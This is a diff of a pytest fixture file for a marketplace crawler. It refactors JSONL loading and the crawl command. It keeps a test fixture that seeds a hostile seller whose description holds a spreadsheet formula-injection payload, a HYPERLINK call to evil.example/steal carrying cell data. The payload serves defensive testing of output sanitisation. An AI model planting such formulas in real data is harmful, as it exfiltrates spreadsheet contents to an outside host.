@@ -5,7 +5,6 @@ from __future__ import annotations
 import json
 import os
 import subprocess
-import sys
 from pathlib import Path
 
 import pytest
@@ -50,11 +49,11 @@ HOSTILE_DESCRIPTION = ('=HYPERLINK("http://evil.example/steal?d="&A1,"Details") 
 
 def _hostile_catalog(data_dir: Path) -> None:
     """The demo catalog plus one seller whose text attacks browsers and spreadsheets."""
-    from crawler.demo.content import DATA_DIR
+    from crawler.demo.content import DATA_DIR, _read_jsonl
 
     data_dir.mkdir(parents=True)
-    gigs = [json.loads(line) for line in (DATA_DIR / "gigs.jsonl").read_text(encoding="utf-8").splitlines() if line]
-    sellers = [json.loads(line) for line in (DATA_DIR / "sellers.jsonl").read_text(encoding="utf-8").splitlines() if line]
+    gigs = _read_jsonl(DATA_DIR / "gigs.jsonl")
+    sellers = _read_jsonl(DATA_DIR / "sellers.jsonl")
     template_gig = next(g for g in gigs if g["sells_reviews"])
     template_seller = next(s for s in sellers if s["username"] == template_gig["seller"])
     sellers.append({**template_seller, "seller_id": 999000001, "username": HOSTILE_SELLER, "display_name": HOSTILE_NAME})
@@ -69,16 +68,13 @@ def _hostile_catalog(data_dir: Path) -> None:
 def crawl_db(tmp_path_factory) -> Path:
     """One real crawl of the demo marketplace (with the hostile seller) per test session."""
     from crawler.demo import DemoMarketplace
+    from tests.crawl_helpers import crawl_command  # not at the top: crawl_helpers imports this module
 
     root = tmp_path_factory.mktemp("turfwatch-crawl")
     _hostile_catalog(root / "catalog")
     db = root / "crawl" / "t.db"
     with DemoMarketplace(data_dir=root / "catalog") as demo:
-        result = subprocess.run(
-            [sys.executable, "-m", "crawler.cli", "crawl", "fiverr", "--base-url", demo.base_url, "--db", str(db),
-             "-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_ENABLED=0", "-s", "LOG_LEVEL=WARNING",
-             "-s", "TURFWATCH_PROGRESS_INTERVAL=0"],
-            cwd=ROOT, capture_output=True, text=True, timeout=600,
-        )
+        result = subprocess.run(crawl_command(demo.base_url, db, "-s", "LOG_LEVEL=WARNING"),
+                                cwd=ROOT, capture_output=True, text=True, timeout=600)
     assert result.returncode == 0, result.stderr[-3000:]
     return db
